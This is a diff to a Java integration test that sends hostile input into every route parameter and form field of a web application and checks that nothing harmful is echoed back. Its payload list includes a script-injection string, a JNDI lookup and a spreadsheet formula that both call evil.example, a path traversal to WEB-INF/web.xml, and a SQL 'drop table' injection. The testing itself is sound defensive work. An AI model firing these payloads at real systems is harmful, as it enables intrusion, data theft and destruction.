@@ -5,11 +5,13 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.junit.jupiter.api.DynamicTest.dynamicTest;
 
 import java.io.IOException;
+import java.io.UncheckedIOException;
 import java.net.http.HttpRequest.BodyPublishers;
 import java.nio.file.Files;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.function.Supplier;
 import java.util.stream.Collectors;
 import java.util.stream.IntStream;
 import java.util.stream.Stream;
@@ -25,6 +27,9 @@ import org.prachum.testing.House;
 /**
  * What no person would type, into every parameter of every route and every field of every form, as a visitor and as an admin: never a
  * mistake of ours, nothing of the inside, no script alive; and on a form what was typed, beside a message.
+ *
+ * <p>Each field of a form, and each route, gets a third of the kinds, by turns, so that each form meets them all; with
+ * {@code PRACHUM_HOSTILE=all} in the environment each gets every kind, which takes some minutes.
  */
 class HostileInputIT {
 
@@ -38,7 +43,7 @@ class HostileInputIT {
         HOSTILE.put("64 KB", MARK + "x".repeat(64 * 1024));
         HOSTILE.put("64 KB of dots", MARK + "a.".repeat(32 * 1024));
         HOSTILE.put("script", Form.encode("\"'><script>alert('" + MARK + "')</script>"));
-        HOSTILE.put("expression", Form.encode("#{7*191}${7*191}" + MARK + "${jndi:ldap://evil.example/x}%s%n{0}"));
+        HOSTILE.put("expression", Form.encode("#{7919*104729}${7919*104729}" + MARK + "${jndi:ldap://evil.example/x}%s%n{0}"));
         HOSTILE.put("formula", Form.encode("=HYPERLINK(\"http://evil.example\",\"" + MARK + "\")"));
         HOSTILE.put("path", Form.encode("../../../../WEB-INF/web.xml" + MARK));
         HOSTILE.put("SQL", Form.encode(MARK + "'; drop table account; --\\"));
@@ -55,6 +60,8 @@ class HostileInputIT {
         HOSTILE.put("nothing", "");
     }
 
+    private static final int TURNS = "all".equals(System.getenv("PRACHUM_HOSTILE")) ? 1 : 3;
+
     static Scene scene;
     static Client ann;
 
@@ -66,7 +73,7 @@ class HostileInputIT {
 
     @TestFactory
     Stream<DynamicTest> noParameterOfAnyRouteDoesHarm() {
-        return Routes.all().stream().map(route -> dynamicTest(route, () -> HOSTILE.forEach((kind, value) -> {
+        return Routes.all().stream().map(route -> dynamicTest(route, () -> kinds(Routes.all().indexOf(route)).forEach((kind, value) -> {
             String path = scene.path(route);
             String every = Routes.parameters().stream().map(name -> name + "=" + value).collect(Collectors.joining("&"));
             // Headers end at 32 KB, so of the long ones the address takes as much as fits.
@@ -105,15 +112,24 @@ class HostileInputIT {
             check(ann.get(path + "?" + twice), "each twice asked of " + path);
             for (String type : List.of("application/json", "multipart/form-data", "multipart/form-data; boundary=x", "text/xml",
                     FORM + "; charset=nonsense", "not a type", "multipart/form-data; boundary=" + "x".repeat(500))) {
-                check(ann.postBody(path, type, "--x\r\n{\"<?xml".getBytes(US_ASCII)), type + " to " + path);
+                check(again(() -> ann.postBody(path, type, "--x\r\n{\"<?xml".getBytes(US_ASCII))), type + " to " + path);
             }
             for (String method : List.of("PUT", "DELETE", "PATCH", "OPTIONS", "HEAD")) {
-                check(ann.send(ann.request(path).header("Sec-Fetch-Site", "same-origin").method(method, BodyPublishers.noBody())),
+                check(again(() -> ann.send(ann.request(path).header("Sec-Fetch-Site", "same-origin").method(method, BodyPublishers.noBody()))),
                         method + " " + path);
             }
             check(scene.visitor().with("Accept", "nonsense").with("Accept-Language", "x-;q=a,,\u00ff").with("Cookie", "a=\"b;;=;$Version=9; SID")
                     .with("If-Modified-Since", "never").with("If-None-Match", "W/").with("Range", "bytes=9-1,a").get(path), "odd headers to " + path);
         }));
+    }
+
+    /** The server ends the connection of whoever sent no whole body, and whoever comes next by the same one has to come again. */
+    private static Answer again(Supplier<Answer> request) {
+        try {
+            return request.get();
+        } catch (UncheckedIOException ended) {
+            return request.get();
+        }
     }
 
     /** What scripts of Faces send: a state that is none, a part that is none, a nonce of one's own, a view that is long gone. */
@@ -155,13 +171,20 @@ class HostileInputIT {
         return List.of(Routes.needsSignIn(route) ? ann : scene.visitor());
     }
 
+    private static Map<String, String> kinds(int turn) {
+        Map<String, String> kinds = new LinkedHashMap<>(HOSTILE);
+        List<String> names = List.copyOf(HOSTILE.keySet());
+        kinds.keySet().removeIf(kind -> (names.indexOf(kind) + turn) % TURNS != 0);
+        return kinds;
+    }
+
     /** Whoever presses those has nothing more to attack. */
     private static boolean signsOut(Form form) {
         return form.action().equals("/auth/logout") || form.fields().keySet().stream().anyMatch(name -> name.endsWith("everywhere"));
     }
 
     private static void attack(Client client, Form seen, String page, int at, String field) {
-        HOSTILE.forEach((kind, value) -> {
+        kinds(List.copyOf(seen.fields().keySet()).indexOf(field)).forEach((kind, value) -> {
             // A form with a state is good for one answer or so; any other for ever.
             List<Form> forms = seen.fields().containsKey("jakarta.faces.ViewState") ? Form.of(page, client.get(page).body()) : List.of();
             Form form = at < forms.size() ? forms.get(at) : seen;
@@ -179,7 +202,10 @@ class HostileInputIT {
 
     private static void check(Answer answer, String what) {
         Harmless.check(answer, what);
-        assertThat(answer.body()).as(what).doesNotContain("<script>alert", "1337", "<display-name>");
+        assertThat(answer.body()).as(what).doesNotContain("829348951", "<display-name>");
+        if (answer.header("Content-Type").startsWith("text/html")) {
+            assertThat(answer.body()).as(what).doesNotContain("<script>alert");
+        }
         assertThat(answer.header("Set-Cookie")).as(what).doesNotContain("evil");
         assertThat(answer.header("Location")).as(what).doesNotContainPattern("^(\\w+:)?[/\\\\]{2}[^/]*evil\\.example");
     }
